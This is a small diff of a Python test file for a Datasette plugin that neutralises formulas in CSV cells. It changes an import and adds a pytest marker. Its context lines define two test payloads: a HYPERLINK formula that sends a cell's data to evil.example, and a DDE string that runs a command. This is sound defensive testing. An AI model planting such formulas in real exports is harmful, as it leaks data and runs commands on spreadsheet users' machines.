@@ -7,7 +7,9 @@ import io
 import pytest
 
 from datasette_kinhtedothi.archive.csv_cells import FORMULA_SIGNS, NUMBER, RecordRewriter, neutral
-from tests.datasette_support import add_article, copy_archive, datasette_for, get
+from tests.support.datasette import add_article, copy_archive, datasette_for, get
+
+pytestmark = pytest.mark.fast
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào")'
 DDE = "-2+3+cmd|' /C calc'!A0"
